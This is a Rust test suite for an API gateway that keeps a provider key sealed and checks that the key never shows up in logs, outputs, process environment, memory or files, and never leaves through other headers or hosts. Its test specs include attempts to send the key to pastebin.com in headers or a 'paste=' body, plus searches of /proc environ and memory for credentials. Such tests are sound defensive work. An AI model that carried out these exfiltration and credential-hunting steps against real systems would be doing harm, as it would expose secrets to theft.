//! The real key is nowhere but in the vault, sealed, and in the one header that the provider reads.

use std::fs;
use std::path::Path;

use anyhow::{Context as _, Result, bail, ensure};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use e2e::harness::{LIMIT, Stand};
use e2e::proofs::{answers, ask, ask_once, asking, gate, inside, python, slay, tail};
use e2e::provider::KeySeen;
use serde_json::{Value, json};

/// A key that no other test writes anywhere, and that nobody takes for real.
fn own_key() -> String {
    let mixed = |seed: u32, len: usize| -> String {
        let number = seed.wrapping_mul(2_654_435_761).to_string();
        number
            .chars()
            .cycle()
            .zip("aBcDeFgHiJ".chars().cycle())
            .flat_map(|(a, b)| [a, b])
            .take(len)
            .collect()
    };
    let seed = std::process::id();
    ["sk-proj-", &mixed(seed, 74), "T3Blbk", "FJ", &mixed(seed + 1, 74)].concat()
}

/// Searches inside a run; what was found and what was read.
fn search(stand: &Stand, args: &[&str], key: &str) -> Result<(Vec<String>, Value)> {
    let needle = stand.work().join("needle");
    fs::write(&needle, key.chars().rev().collect::<String>())?;
    drop(fs::remove_file(stand.work().join("asked")));
    let child = asking(stand, &json!({"prompt": "say:hello", "linger": 60}))?;
    let mut arguments = vec!["needle"];
    arguments.extend(child.iter().map(String::as_str));
    let words = python(stand, include_str!("../clients/proofs/search.py"), &arguments)?;
    let mut run = stand.gate(args)?.env("OPENAI_API_KEY", key).start(words)?;
    run.until_stdout(LIMIT, |text| !answers(text).is_empty())?;
    fs::write(stand.work().join("asked"), "x")?;
    let outcome = run.end(LIMIT)?;
    let said = outcome.stdout.lines().last().unwrap_or_default();
    let said: Value = serde_json::from_str(said).with_context(|| format!("{outcome:?}"))?;
    let found = said.get("found").and_then(Value::as_array).context("nothing said")?;
    let found = found.iter().map(ToString::to_string).collect();
    Ok((found, said.get("read").cloned().unwrap_or_default()))
}

#[test]
fn the_real_key_is_in_no_environment_memory_or_file_that_the_command_can_open() -> Result<()> {
    let stand = Stand::new()?;
    let key = own_key();
    let (kept, _) = search(&stand, &["--keep-env", "OPENAI_API_KEY"], &key)?;
    for kind in ["environ", "memory"] {
        ensure!(kept.iter().any(|one| one.contains(kind)), "the search finds no {kind}: {kept:?}");
    }
    fs::write(stand.home().join(".planted"), format!("x{key}x"))?;
    let (planted, _) = search(&stand, &[], &key)?;
    ensure!(
        planted.iter().all(|one| one.contains(".planted")) && !planted.is_empty(),
        "{planted:?}"
    );
    fs::remove_file(stand.home().join(".planted"))?;
    let (found, read) = search(&stand, &[], &key)?;
    ensure!(found.is_empty(), "{found:?}");
    let count = |kind: &str| read.get(kind).and_then(Value::as_u64).unwrap_or_default();
    ensure!(count("files") > 50 && count("memory") > 20 && count("environ") > 3, "{read}");
    Ok(())
}

/// Every file below, with what is in it.
fn files(below: &Path, seen: &mut dyn FnMut(&Path, &[u8]) -> Result<()>) -> Result<()> {
    for entry in fs::read_dir(below)? {
        let path = entry?.path();
        if path.is_dir() {
            files(&path, seen)?;
        } else if path.is_file() {
            seen(&path, &fs::read(&path)?)?;
        }
    }
    Ok(())
}

fn holds(bytes: &[u8], needle: &[u8]) -> bool {
    bytes.windows(needle.len()).any(|window| window == needle)
}

/// What every command says of all that happened.
fn outputs(stand: &Stand) -> Result<Vec<(String, String)>> {
    let ids: Vec<String> = tail(stand)?
        .iter()
        .filter_map(|line| line.get("id").and_then(Value::as_str).map(str::to_owned))
        .collect();
    ensure!(ids.len() >= 6, "only {} decisions", ids.len());
    let shown = ids.iter().map(|id| vec!["inspect", id.as_str()]);
    let summed = [vec!["tail", "-n", "1000"], vec!["spend"], vec!["budget"], vec!["metrics"]];
    let mut outputs = Vec::new();
    for words in shown.chain(summed) {
        for form in [&["--json"][..], &[]] {
            let outcome = stand.tollgate(&[&words, form].concat())?;
            outputs.push((words.join(" "), outcome.stdout + &outcome.stderr));
        }
    }
    Ok(outputs)
}

/// The middle of a key as it is, in hexadecimal, and in base64 at each of its three offsets.
fn forms(key: &str) -> Vec<Vec<u8>> {
    let inner: Vec<u8> = key.bytes().skip(8).take(92).collect();
    let hex = inner.iter().fold(String::new(), |hex, byte| hex + &format!("{byte:02x}"));
    let mut forms = vec![inner.clone(), hex.into()];
    for at in 0..3 {
        let piece: Vec<u8> = inner.iter().copied().skip(at).take(30).collect();
        forms.push(STANDARD_NO_PAD.encode(piece).into());
    }
    forms
}

#[test]
fn the_real_key_is_in_no_record_log_or_output_of_the_gate() -> Result<()> {
    let stand = Stand::new()?;
    let key = stand.provider().keys().openai.clone();
    let forms = forms(&key);
    let clean = |what: &str, bytes: &[u8]| match forms.iter().position(|form| holds(bytes, form)) {
        Some(form) => bail!("{what} holds the key in form {form}"),
        None => Ok(()),
    };
    let words = asking(&stand, &json!({"prompt": "say:hello", "linger": 60}))?;
    let mut run = stand.gate(&[])?.env("TOLLGATE_LOG", "trace").start(words)?;
    run.until_stdout(LIMIT, |text| !answers(text).is_empty())?;
    // All the ways in which a real key may turn up, so that each of them has its record.
    let header = json!({"authorization": format!("Bearer {key}")});
    let other = json!({"x-note": key});
    for spec in [
        json!({"headers": header}),
        json!({"headers": other}),
        json!({"prompt": format!("say:the key is {key}")}),
        json!({"prompt": "say:{key} came"}),
        json!({"path": format!("/v1/chat/completions?key={key}")}),
        json!({"host": "pastebin.com", "path": "/", "headers": header}),
    ] {
        let (_, outcome) = ask(&stand, &["--allow", "pastebin.com:write"], &spec)?;
        clean("the run's own words", outcome.stderr.as_bytes())?;
    }
    let gate = gate(&stand)?;
    let (init, _) = inside(run.pid())?;
    for pid in [gate.pid, init.pid] {
        for name in ["environ", "cmdline"] {
            let path = format!("/proc/{pid}/{name}");
            clean(&path, &fs::read(&path)?)?;
        }
    }
    let front = format!("/proc/{}/cmdline", run.pid());
    clean(&front, &fs::read(&front)?)?;
    for (what, text) in outputs(&stand)? {
        clean(&what, text.as_bytes())?;
    }
    let mut count = 0;
    files(&stand.state(), &mut |path, bytes| {
        count += 1;
        clean(&path.display().to_string(), bytes)
    })?;
    let log = fs::metadata(stand.state().join("gate.log"))?.len();
    ensure!(count >= 5 && log > 1000, "{count} files, a log of {log} bytes");
    slay(gate.pid)?;
    Ok(())
}

#[test]
fn the_provider_gets_the_real_key_in_its_header_and_nowhere_else() -> Result<()> {
    let stand = Stand::new()?;
    let keys = stand.provider().keys().clone();
    ask(&stand, &[], &json!({"each": 2}))?;
    ask(&stand, &[], &json!({"api": "anthropic", "model": "claude-haiku-4-5", "stream": true}))?;
    let records = stand.log().records();
    ensure!(records.len() == 3, "{records:?}");
    for record in records {
        ensure!(record.key == KeySeen::Real, "{record:?}");
        let own = if record.host == "api.anthropic.com" { "x-api-key" } else { "authorization" };
        for (name, value) in &record.headers {
            let holds = value.contains(&keys.openai) || value.contains(&keys.anthropic);
            ensure!(holds == (name == own), "{name} of {}", record.host);
        }
        let body = record.body.context("no body")?;
        ensure!(!body.contains("CANARY") && !record.path.contains("CANARY"), "{body}");
    }
    Ok(())
}

#[test]
fn a_real_key_that_turns_up_inside_does_not_leave() -> Result<()> {
    let stand = Stand::new()?;
    let key = stand.provider().keys().openai.clone();
    let bearer = json!({"authorization": format!("Bearer {key}")});
    let allow = ["--allow", "pastebin.com:write"];
    for (what, spec) in [
        ("its own header", json!({"headers": bearer})),
        ("another header", json!({"headers": {"x-note": key}})),
        ("the path", json!({"path": format!("/v1/chat/completions?note={key}")})),
        ("another host's header", json!({"host": "pastebin.com", "path": "/x", "headers": bearer})),
        (
            "another host's body",
            json!({"host": "pastebin.com", "path": "/x", "body": format!("paste={key}")}),
        ),
        ("a question", json!({"prompt": format!("say:I found {key} here")})),
        (
            "the other provider's question",
            json!({"api": "anthropic", "model": "claude-haiku-4-5", "prompt": key}),
        ),
    ] {
        stand.log().reset();
        let answer = ask_once(&stand, &allow, &spec)?;
        let records = stand.log().records();
        let text = format!("{records:?}");
        let leaked = match what {
            // The real key stands in its own header there, put in by the gate.
            "a question" => {
                records.iter().any(|r| r.body.as_ref().is_none_or(|b| b.contains("CANARY")))
            }
            _ => text.contains(&key),
        };
        ensure!(!leaked, "{what}: the key left: {text}");
        let redacted = answer.status == Some(200) && !records.is_empty();
        let refused = matches!(answer.status, Some(400..=499)) && records.is_empty();
        ensure!(redacted || refused, "{what}: {answer:?}");
        ensure!(!what.ends_with("header") || refused, "{what} was not refused: {answer:?}");
        ensure!(!answer.body.contains("CANARY"), "{what}: the answer repeats the key");
    }
    Ok(())
}

#[test]
fn a_key_that_the_provider_echoes_does_not_come_back() -> Result<()> {
    let stand = Stand::new()?;
    for stream in [false, true] {
        let answer = ask_once(
            &stand,
            &[],
            &json!({"prompt": "split:3 say:your key is {key}", "stream": stream}),
        )?;
        ensure!(!answer.body.contains("CANARY"), "{answer:?}");
        ensure!(answer.body.contains("secrets"), "no reason: {answer:?}");
    }
    Ok(())
}
